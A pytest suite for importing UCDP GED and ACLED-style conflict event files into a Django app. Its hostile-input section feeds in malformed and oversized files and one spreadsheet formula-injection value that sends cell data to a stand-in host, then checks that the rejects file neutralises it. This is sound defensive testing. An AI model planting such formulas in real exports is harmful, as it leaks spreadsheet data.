"""Importing events from the real UCDP GED sample and through a mapping file."""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction

from accord.core.audit import Actor
from accord.core.models import ChangeRecord
from accord.crisis import ged_blocks, importers
from accord.crisis.ged import named_attributes
from accord.crisis.importers import ImportRefused, import_ged, import_mapped
from accord.crisis.models import Event, EventCount, ImportRun
from tests.core import hostile

pytestmark = pytest.mark.django_db
SHARED_GED = Path(__file__).resolve().parents[3] / "shared" / "data" / "ucdp" / "ged-23.1-sample.csv"
SHIPPED_GED = Path(__file__).resolve().parents[2] / "src" / "accord" / "data" / "demo" / "ged-23.1-sample.csv"
MAPPING = Path(__file__).resolve().parents[2] / "src" / "accord" / "data" / "mappings" / "acled.yaml"


def ged_lines() -> list[str]:
    return SHIPPED_GED.read_text(encoding="utf-8").splitlines(keepends=True)


def write_ged(tmp_path: Path, lines: list[str], name: str = "ged.csv") -> Path:
    path = tmp_path / name
    path.write_text("".join(lines), encoding="utf-8")
    return path


def replace_field(line: str, column: str, value: str) -> str:
    """The same CSV line with one column changed."""
    header = next(csv.reader(io.StringIO(ged_lines()[0])))
    row = next(csv.reader(io.StringIO(line)))
    row[header.index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(row)
    return buffer.getvalue()


def test_the_shipped_sample_is_the_real_one():
    assert SHIPPED_GED.read_bytes() == SHARED_GED.read_bytes()


def test_the_real_sample_imports_completely(actor):
    run = import_ged(SHIPPED_GED, actor=actor)
    assert (run.added, run.rejected) == (1000, 0)
    assert Event.objects.filter(source="ucdp-ged").count() == 1000
    syria = Event.objects.get(source_id="300380")
    assert (syria.country, syria.category, syria.date.isoformat(), syria.place_precision) == (
        "SYR",
        "armed-conflict-state-based",
        "2013-01-03",
        "point",
    )
    assert (syria.latitude, syria.longitude, syria.fatalities_best) == (35.763369, 36.558974, 2)
    kept = named_attributes(syria.attributes)
    assert (kept["side_a"], kept["relid"]) == ("Government of Syria", "SYR-2013-1-11973-99")
    assert "source_headline" not in kept and "source_original" not in kept
    assert Event.objects.filter(country="RUS").count() == 16
    assert sum(EventCount.objects.filter(country="SYR").values_list("events", flat=True)) == 265


def test_coarse_dates_and_places_are_kept_coarse(actor):
    import_ged(SHIPPED_GED, actor=actor)
    assert Event.objects.filter(date_precision="month").count() == 23
    assert Event.objects.filter(place_precision="country").count() == 13
    monthly = EventCount.objects.filter(date_precision="month")
    assert monthly.exists() and all(count.date.day == 1 for count in monthly)


def test_central_asian_events_get_their_region(actor):
    import_ged(SHIPPED_GED, actor=actor)
    regions = set(Event.objects.filter(country__in=["TJK", "KGZ"]).values_list("region", flat=True))
    assert regions == {"central-asian"}
    assert set(Event.objects.filter(country="RUS").values_list("region", flat=True)) == {"east-european"}
    assert set(Event.objects.filter(country="SYR").values_list("region", flat=True)) == {""}


def test_a_re_import_adds_nothing(actor):
    import_ged(SHIPPED_GED, actor=actor)
    again = import_ged(SHIPPED_GED, actor=actor)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 1000)
    assert Event.objects.count() == 1000


def event_values() -> list[tuple]:
    """Every stored event, without its database id and import."""
    columns = [field.name for field in Event._meta.fields if field.name not in ("id", "import_run")]
    return sorted(Event.objects.values_list(*columns))


def import_row_by_row(path: Path, actor) -> ImportRun:
    """The row-by-row way, as the importer takes it when the columnar reader gives up."""
    options = importers.ImportOptions(source="ucdp-ged", kind="ucdp-ged")
    return importers.import_rows(path, importers.ged_scan(path, importers.Gazetteer.load()), options, actor)


def test_a_clean_file_takes_the_columnar_way(actor, monkeypatch):
    def no_rows(*args):
        raise AssertionError("read row by row")

    monkeypatch.setattr(importers, "ged_scan", no_rows)
    assert import_ged(SHIPPED_GED, actor=actor).added == 1000


def test_both_ways_store_the_same_events(actor):
    """The real sample (with line breaks inside quoted values) read both ways gives the same events."""
    import_ged(SHIPPED_GED, actor=actor)
    columnar = event_values()
    Event.objects.all().delete()
    import_row_by_row(SHIPPED_GED, actor)
    assert event_values() == columnar
    multi_line = Event.objects.get(source_id="331084")
    assert multi_line.line == 1211  # the file's last line: earlier rows span several lines


def test_a_re_import_after_the_other_way_adds_and_changes_nothing(actor):
    import_row_by_row(SHIPPED_GED, actor)
    again = import_ged(SHIPPED_GED, actor=actor)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 1000)


DOUBTFUL = [
    ("date_start", " 2013-01-03"),
    ("date_start", "2013-01-03 00:00:00.000"),
    ("date_end", ""),
    ("date_end", "2012-12-31"),
    ("country_id", "652.0"),
    ("country_id", " 652"),
    ("latitude", "1e1"),
    ("latitude", "-0.0"),
    ("latitude", ""),
    ("longitude", "180.0000001"),
    ("best", "2.0"),
    ("best", "-1"),
    ("best", ""),
    ("date_prec", " 1"),
    ("where_prec", "8"),
    ("type_of_violence", "3"),
    ("side_a", 'Government of "Syria" \\ 1'),
    ("side_a", "tab\there"),
    ("where_description", "two\nlines"),
    ("where_description", "bell\x07"),
    ("where_coordinates", "x" * 301),
    ("dyad_name", "д" * 500),
    ("id", "00300380"),
    ("id", " 300380"),
    ("id", "A" * 65),
]


@pytest.mark.parametrize(("column", "value"), DOUBTFUL)
def test_what_the_columnar_way_takes_it_takes_as_the_row_by_row_way_does(actor, tmp_path, column, value):
    """Either way, a doubtful value gives the same events or the same refusal."""
    lines = ged_lines()
    lines[3] = replace_field(lines[3], column, value)
    path = write_ged(tmp_path, lines)
    outcomes = []
    for way in (import_ged, import_row_by_row):
        try:
            with transaction.atomic():
                way(path, actor=actor) if way is import_ged else way(path, actor)
                outcomes.append(event_values())
                raise Rollback
        except ImportRefused as refused:
            outcomes.append([str(problem) for problem in refused.problems])
        except Rollback:
            pass
    assert outcomes[0] == outcomes[1]


class Rollback(Exception):
    """Undo an import inside a test."""


def test_an_interrupted_import_leaves_nothing_behind(actor, monkeypatch):
    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
    events, runs, records = Event.objects.count(), ImportRun.objects.count(), ChangeRecord.objects.count()
    seen = []

    def interrupt(done: int, total: int) -> None:
        seen.append(done)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_ged(SHIPPED_GED, actor=actor, progress=interrupt)
    assert len(seen) == 1  # stopped after the first of five blocks
    assert (Event.objects.count(), ImportRun.objects.count(), ChangeRecord.objects.count()) == (
        events,
        runs,
        records,
    )
    reader = [thread for thread in threading.enumerate() if thread.name == "accord-block-reader"]
    for thread in reader:
        thread.join(timeout=5)
    assert not any(thread.is_alive() for thread in reader)


def test_new_rows_after_known_ones_are_added(actor, tmp_path, monkeypatch):
    """A later file of the same source: blocks of known rows are compared, blocks of new ones copied in."""
    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
    with SHIPPED_GED.open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    first = tmp_path / "first.csv"
    with first.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(records[:401])
    import_ged(first, actor=actor)
    run = import_ged(SHIPPED_GED, actor=actor)
    assert (run.added, run.unchanged, run.updated) == (600, 400, 0)
    assert Event.objects.count() == 1000


def test_progress_counts_the_whole_file(actor):
    advanced = []
    import_ged(SHIPPED_GED, actor=actor, progress=lambda done, total: advanced.append((done, total)))
    size = SHIPPED_GED.stat().st_size
    assert sum(done for done, _ in advanced) == size and {total for _, total in advanced} == {size}


def test_a_changed_row_updates_its_event_and_records_it(actor, tmp_path):
    import_ged(SHIPPED_GED, actor=actor)
    lines = ged_lines()
    lines[1] = replace_field(lines[1], "best", "7")
    run = import_ged(write_ged(tmp_path, lines), actor=actor)
    assert (run.added, run.updated) == (0, 1)
    assert Event.objects.get(source_id="300380").fatalities_best == 7
    change = ChangeRecord.objects.filter(object_type="crisis.event").latest("id")
    assert (change.before["fatalities_best"], change.after["fatalities_best"]) == (2, 7)
    assert change.reason == "changed in ged.csv line 2"


def broken_file(tmp_path: Path) -> Path:
    lines = ged_lines()
    lines[2] = replace_field(lines[2], "date_start", "2013-02-30")
    lines[4] = replace_field(lines[4], "country_id", "999")
    lines[6] = replace_field(lines[6], "latitude", "95.5")
    return write_ged(tmp_path, lines)


def test_broken_rows_are_refused_with_line_numbers_and_nothing_is_written(actor, tmp_path):
    events, runs, records = Event.objects.count(), ImportRun.objects.count(), ChangeRecord.objects.count()
    path = broken_file(tmp_path)
    with pytest.raises(ImportRefused) as caught:
        import_ged(path, actor=actor)
    assert [str(problem) for problem in caught.value.problems] == [
        "line 3: date_start: '2013-02-30' is not a date (YYYY-MM-DD)",
        "line 5: country_id: unknown country (Gleditsch-Ward number 999)",
        "line 7: latitude: 95.5 is out of range (±90)",
    ]
    assert (Event.objects.count(), ImportRun.objects.count(), ChangeRecord.objects.count()) == (
        events,
        runs,
        records,
    )


def test_a_missing_column_refuses_the_whole_file(actor, tmp_path):
    lines = ged_lines()
    header = lines[0].replace(",gwnob\n", "\n")
    path = write_ged(tmp_path, [header, *[line.rsplit(",", 1)[0] + "\n" for line in lines[1:3]]])
    with pytest.raises(ImportRefused, match=r"ged\.csv:1: gwnob: required column is missing"):
        import_ged(path, actor=actor, keep_good=True)


def test_keep_good_imports_the_rest_and_writes_the_rejects(actor, tmp_path):
    path = broken_file(tmp_path)
    rejects = tmp_path / "rejects.csv"
    run = import_ged(path, actor=actor, keep_good=True, rejects=rejects)
    assert (run.added, run.rejected, run.status) == (997, 3, "partial")
    with rejects.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["line"], row["reasons"]) for row in rows] == [
        ("3", "date_start: '2013-02-30' is not a date (YYYY-MM-DD)"),
        ("5", "country_id: unknown country (Gleditsch-Ward number 999)"),
        ("7", "latitude: 95.5 is out of range (±90)"),
    ]
    assert rows[1]["country_id"] == "999"


def test_the_command_line_import(tmp_path, capsys):
    call_command("events", "import", "ucdp-ged", str(SHIPPED_GED), "--json")
    assert json.loads(capsys.readouterr().out)["added"] == 1000
    with pytest.raises(CommandError, match="3 bad row"):
        call_command("events", "import", "ucdp-ged", str(broken_file(tmp_path)))
    rejects = tmp_path / "out.csv"
    call_command(
        "events", "import", "ucdp-ged", str(broken_file(tmp_path)), "--keep-good", "--rejects", str(rejects)
    )
    assert rejects.exists()


ACLED_COLUMNS = [
    "event_id_cnty",
    "event_date",
    "time_precision",
    "event_type",
    "sub_event_type",
    "iso3",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "fatalities",
    "notes",
]


def acled_file(tmp_path: Path, rows: list[list[str]], suffix: str = ".csv") -> Path:
    path = tmp_path / f"events{suffix}"
    if suffix == ".json":
        path.write_text(
            json.dumps([dict(zip(ACLED_COLUMNS, row, strict=True)) for row in rows]), encoding="utf-8"
        )
    else:
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(ACLED_COLUMNS)
        writer.writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


ROWS = [
    [
        "TJK1",
        "03 March 2021",
        "1",
        "Battles",
        "Armed clash",
        "TJK",
        "Sughd",
        "Isfara",
        "40.12",
        "70.63",
        "1",
        "4",
        "(free text)",
    ],
    ["KGZ1", "05 March 2021", "3", "Riots", "Mob violence", "KGZ", "Batken", "Batken", "", "", "2", "0", ""],
]


@pytest.mark.parametrize("suffix", [".csv", ".json"])
def test_a_mapped_file(actor, tmp_path, suffix):
    run = import_mapped(acled_file(tmp_path, ROWS, suffix), MAPPING, actor=actor)
    assert run.added == 2
    clash = Event.objects.get(source="csv:acled", source_id="TJK1")
    assert (clash.category, clash.date.isoformat(), clash.place_precision, clash.region) == (
        "armed-conflict-state-based",
        "2021-03-03",
        "point",
        "central-asian",
    )
    riot = Event.objects.get(source_id="KGZ1")
    assert (riot.category, riot.date_precision, riot.place_precision) == ("other", "month", "admin")
    assert "notes" not in riot.attributes


def test_a_mapped_file_with_bad_rows(actor, tmp_path):
    rows = [*ROWS, ["XX1", "31 February 2021", "1", "Battles", "x", "ZZZ", "", "", "", "", "1", "1", ""]]
    with pytest.raises(ImportRefused) as caught:
        import_mapped(acled_file(tmp_path, rows), MAPPING, actor=actor)
    assert [str(problem) for problem in caught.value.problems] == [
        "line 4: event_date: '31 February 2021' is not a date in the form %d %B %Y",
        "line 4: iso3: unknown country 'ZZZ'",
    ]


# ---------------------------------------------------------------------------------------------
# Hostile and broken files: refused whole, with file, line and field, never a traceback
# ---------------------------------------------------------------------------------------------


def refusal(path: Path, way=None, **options) -> list[str]:
    """The problems an import reports, as ``FILE:LINE: field: reason`` lines."""
    with pytest.raises(ImportRefused) as caught:
        (way or import_ged)(path, actor=Actor.system("tests"), **options)
    return str(caught.value).splitlines()[1:]


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("best", "3.7", "3.7 is not a whole number"),
        ("low", "1e400", "1e400 is too large (at most 2147483647)"),
        ("high", "inf", "'inf' is not a finite number"),
        ("best", "NaN", "'NaN' is not a finite number"),
        ("best", "9223372036854775808", "9223372036854775808 is too large (at most 2147483647)"),
        ("country_id", "365.9", "365.9 is not a whole number"),
        ("date_start", "2015-01-01 garbage", "'2015-01-01 garbage' is not a date (YYYY-MM-DD)"),
        ("date_end", "2013-01-03 25:00:00", "'2013-01-03 25:00:00' is not a date (YYYY-MM-DD)"),
    ],
)
def test_values_are_refused_never_truncated_by_either_way(actor, tmp_path, column, value, reason):
    """3.7 fatalities are not 3, GW 365.9 is not Russia, '2015-01-01 garbage' is not a date: the
    columnar way gives up on them and the row-by-row way refuses them with line and field.
    """
    lines = ged_lines()
    lines[2] = replace_field(lines[2], column, value)
    path = write_ged(tmp_path, lines)
    expected = f"{path}:3: {column}: {reason}"
    assert refusal(path) == [expected]
    with pytest.raises(ImportRefused) as caught:
        import_row_by_row(path, actor)
    assert [str(problem) for problem in caught.value.problems] == [f"line 3: {column}: {reason}"]
    assert not Event.objects.exists()


def test_a_nul_character_in_a_field_is_refused_with_line_and_field(actor, tmp_path):
    """Near the top it marks a binary file; further in (past what is sniffed) it is the field's problem."""
    lines = ged_lines()
    lines[900] = replace_field(lines[900], "where_coordinates", "Rami\x00village")
    path = write_ged(tmp_path, lines)
    line = 1 + "".join(lines[:900]).count("\n")
    assert refusal(path) == [f"{path}:{line}: where_coordinates: a NUL character is not text"]
    lines[2] = replace_field(lines[2], "where_coordinates", "Rami\x00village")
    path = write_ged(tmp_path, lines)
    assert refusal(path) == [f"{path}:3: holds a NUL byte: a binary file, not text"]


def test_the_columnar_way_gives_up_on_a_nul_and_on_a_day_with_text_after_it(tmp_path):
    places = importers.Gazetteer.load().places()
    for column, value in (("date_start", "2015-01-01 garbage"), ("where_coordinates", "a\x00b")):
        lines = ged_lines()
        lines[2] = replace_field(lines[2], column, value)
        with pytest.raises(ged_blocks.NotSimple):
            list(ged_blocks.ged_blocks(write_ged(tmp_path, lines), places))


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (
            lambda folder: hostile.binary_file(folder, "ged.csv"),
            "1: holds a NUL byte: a binary file, not text",
        ),
        (
            lambda folder: hostile.utf16_file(folder, "ged.csv", "".join(ged_lines()[:5])),
            "1: is UTF-16 or UTF-32 text: save it as UTF-8",
        ),
        (lambda folder: folder, " is a folder, not a CSV file"),  # no line: the file as a whole
    ],
)
def test_files_that_are_not_text_are_refused_whole(actor, tmp_path, make, reason):
    path = make(tmp_path)
    assert refusal(path) == [f"{path}:{reason}"]


def test_a_latin1_byte_deep_in_the_file_is_refused_with_its_line(actor, tmp_path):
    lines = ged_lines()
    lines[900] = replace_field(lines[900], "where_description", "Café")
    path = tmp_path / "ged.csv"
    path.write_bytes("".join(lines).encode("utf-8").replace("Café".encode(), "Café".encode("latin-1")))
    line = 1 + "".join(lines[:900]).count("\n")
    assert refusal(path) == [
        f"{path}:{line}: byte 0xe9 is not UTF-8 text (a Latin-1 or Windows file?): save it as UTF-8"
    ]


def test_a_50_mb_field_is_refused_with_its_line_not_a_traceback(tmp_path):
    lines = ged_lines()
    path = tmp_path / "ged.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("".join(lines[:3]))
        handle.write(replace_field(lines[3], "source_headline", "x" * (50 * 1024 * 1024)))
        handle.write("".join(lines[4:]))
    with pytest.raises(CommandError) as caught:
        call_command("events", "import", "ucdp-ged", str(path))
    assert caught.value.returncode == 2
    assert str(caught.value).endswith(
        f"{path}:4: cannot be read as CSV: a field longer than 131,072 characters"
    )


def test_a_folder_given_to_the_command_exits_2(tmp_path):
    with pytest.raises(CommandError) as caught:
        call_command("events", "import", "ucdp-ged", str(tmp_path))
    assert caught.value.returncode == 2
    assert str(caught.value) == f"nothing was imported:\n{tmp_path}: is a folder, not a CSV file"


def test_rejects_for_a_missing_folder_are_refused_before_anything_is_imported(actor, tmp_path):
    rejects = tmp_path / "missing" / "dir" / "rejects.csv"
    assert refusal(broken_file(tmp_path), keep_good=True, rejects=rejects) == [
        f"{rejects}: cannot be written: the folder {rejects.parent} does not exist"
    ]
    assert not Event.objects.exists()


def test_rejected_rows_cannot_run_as_formulas_in_a_spreadsheet(actor, tmp_path):
    lines = ged_lines()
    lines[2] = replace_field(lines[2], "date_start", "2013-02-30")
    lines[2] = replace_field(lines[2], "side_a", '=HYPERLINK("http://x.example/?"&A1,"open")')
    lines[2] = replace_field(lines[2], "latitude", "-12.5")
    rejects = tmp_path / "rejects.csv"
    import_ged(write_ged(tmp_path, lines), actor=actor, keep_good=True, rejects=rejects)
    with rejects.open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["side_a"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert row["latitude"] == "-12.5"


def test_a_short_row_of_a_mapped_csv_is_refused_with_its_line(actor, tmp_path):
    path = acled_file(tmp_path, ROWS)
    with path.open("a", encoding="utf-8") as handle:
        handle.write("TJK9,03 March 2021,1,Battles\n")
    with pytest.raises(ImportRefused) as caught:
        import_mapped(path, MAPPING, actor=actor)
    assert [str(problem) for problem in caught.value.problems] == [
        "line 4: row: 4 fields where the header has 13"
    ]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("3.7", "3.7 is not a whole number"),
        ("1e400", "1e400 is too large (at most 2147483647)"),
        ("-5", "-5 is negative"),
    ],
)
@pytest.mark.parametrize("suffix", [".csv", ".json"])
def test_mapped_fatalities_must_be_whole(actor, tmp_path, suffix, value, reason):
    rows = [[*ROWS[0][:11], value, ROWS[0][12]], ROWS[1]]
    path = acled_file(tmp_path, rows, suffix)
    if suffix == ".json":  # a number, as JSON writes it (not a string)
        path.write_text(path.read_text(encoding="utf-8").replace(f'"{value}"', value), encoding="utf-8")
    with pytest.raises(ImportRefused) as caught:
        import_mapped(path, MAPPING, actor=actor)
    line = 2 if suffix == ".csv" else 1
    assert [str(problem) for problem in caught.value.problems] == [f"line {line}: fatalities: {reason}"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '[{"event_id_cnty": "\\ud800"}]',
            "1: event_id_cnty: a lone surrogate (\\ud800-\\udfff) is not text",
        ),
        ("[" + "[" * 50_000 + "]" * 50_000 + "]", "1: json: nested more than 20 levels deep"),
        ('{"rows": []}', "1: json: expected a list of records: [{...}, {...}]"),
        (
            '[{"event_id_cnty": 1, "event_date": "x", "iso3": "KAZ", "event_type": "Riots"},\n 7]',
            "2: json: expected a list of objects",
        ),
    ],
)
def test_hostile_json_event_files_are_refused(actor, tmp_path, text, expected):
    path = tmp_path / "events.json"
    path.write_text(text, encoding="utf-8")
    found = refusal(path, lambda path, actor: import_mapped(path, MAPPING, actor=actor))
    assert found == [f"{path}:{expected}"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("- name\n- id\n", "1: expected a mapping of fields"),
        (
            "name: x\nid: [a, b]\ndate: d\ncountry: c\ncategory: e\n",
            "2: id: expected a column name or {column: NAME, ...}",
        ),
        (
            "name: x\nid: i\ndate: d\ncountry: {column: c, kind: zip}\ncategory: e\n",
            "4: country.kind: 'zip' is not allowed: 'iso3', 'gwno' or 'name'",
        ),
        (
            "name: x\nid: i\ndate: {column: d, format: '%Q'}\ncountry: c\ncategory: e\n",
            "3: date.format: '%Q' is not a date format ('Q' is a bad directive in format '%Q')",
        ),
        (
            "name: x\nid: i\ndate: d\ncountry: c\ncategory: {column: e, values: {Riots: riot}}\n",
            "5: category.values.Riots: 'riot' is not allowed: 'armed-conflict-state-based', "
            "'armed-conflict-non-state', 'armed-conflict-one-sided', 'terrorism', 'drug-trafficking', "
            "'illegal-migration', 'it-crime', 'natural-emergency', 'man-made-emergency', 'epidemic' or 'other'",
        ),
        (
            "name: x\nid: i\ndate: d\ncountry: c\ncategory: e\nkeep: notes\n",
            "6: keep: Input should be a valid list",
        ),
        ("name: &n x\n", "1: anchors (&n) are not accepted: write the value out"),
    ],
)
def test_malformed_mapping_files_are_refused_with_line_and_field(actor, tmp_path, text, expected):
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(text, encoding="utf-8")
    events = acled_file(tmp_path, ROWS)
    found = refusal(events, lambda path, actor: import_mapped(path, mapping, actor=actor))
    assert found == [f"{mapping}:{expected}"]


def test_blank_lines_of_a_mapped_csv_are_skipped_as_before(actor, tmp_path):
    path = acled_file(tmp_path, ROWS)
    path.write_text(path.read_text(encoding="utf-8") + "\n\n", encoding="utf-8")
    assert import_mapped(path, MAPPING, actor=actor).added == 2


def test_a_precision_given_without_a_column_holds_for_every_row(actor, tmp_path):
    mapping = tmp_path / "mapping.yaml"
    text = MAPPING.read_text(encoding="utf-8")
    text = text.replace("date_precision:\n  column: time_precision\n", "date_precision:\n")
    mapping.write_text(
        text.replace(
            '  values: {"1": day, "2": week, "3": month}\n  default: day\n', "  default: month\n", 1
        ),
        encoding="utf-8",
    )
    assert import_mapped(acled_file(tmp_path, ROWS), mapping, actor=actor).added == 2
    assert set(Event.objects.values_list("date_precision", flat=True)) == {"month"}
